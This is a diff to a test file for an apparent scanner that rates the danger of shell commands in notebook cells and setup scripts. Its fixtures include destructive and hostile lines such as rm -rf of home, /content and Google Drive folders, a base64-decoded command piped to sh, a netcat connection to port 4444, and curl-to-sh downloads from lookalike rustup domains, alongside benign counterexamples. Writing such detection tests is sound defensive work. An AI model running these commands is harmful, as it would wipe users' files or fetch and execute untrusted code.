@@ -20,6 +20,9 @@ describe('commands of a notebook', () => {
     ['!echo aWQ= | base64 -d | sh', 'shell/runs-harmful-command critical'],
     ['%%bash\ncd /tmp\nrm -rf ~/*', 'shell/runs-harmful-command high'],
     ['!rm -rf "$HOME"', 'shell/runs-harmful-command high'],
+    ['!rm -rf /content/*', 'shell/runs-harmful-command high'],
+    ['!rm -rf /content/drive/MyDrive', 'shell/runs-harmful-command high'],
+    ['!cd x && rm -rf *', 'shell/runs-harmful-command high'],
     ['!chmod -R 777 /data', 'shell/runs-harmful-command high'],
     ['!nc 192.0.2.1 4444', 'shell/runs-harmful-command high'],
     ['!crontab jobs.txt', 'shell/runs-harmful-command high'],
@@ -88,6 +91,8 @@ describe('commands of a notebook', () => {
     '%%writefile train.py\n#!/usr/bin/env python\nprint(1)\n---\n!python train.py',
     "%%bash\ncat > .env <<EOF\nmine x\nEOF\nls\ncat <<-'END' | grep x\n\tyours\n\tEND\nls",
     '!cd x && {sys.executable} -m pip list 2>&1 >log\n!$PYTHON a.py\n!> a.txt\n!$(which python) -m a',
+    '!rm -rf *.html *.js\n!rm -rf /content/sample_data',
+    'from IPython.display import HTML, display\ndef show(self):\n  display(HTML(self._repr_html_()))',
     '# !rm -rf /\ntext = "!pip install x"',
   ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
 });
@@ -174,5 +179,8 @@ describe('what sets up a machine', () => {
     ['curl https://sh.rustup.rs.x.y/ | sh', ['critical']],
     ['curl https://sh.rustup.rs@x.y/ | sh', ['critical']],
     ['rm -rf build dist *.egg-info', []],
+    ['rm -rf *.html *.js\nrm -f *.gnuplot', []],
+    ['cd build && rm -rf *', ['low']],
+    ['echo \'eval "$(pixi completion -s bash)"\' >> /home/vscode/.bashrc', []],
   ])('%j', (script, expected) => expect(inScript(script)).toEqual(expected));
 });
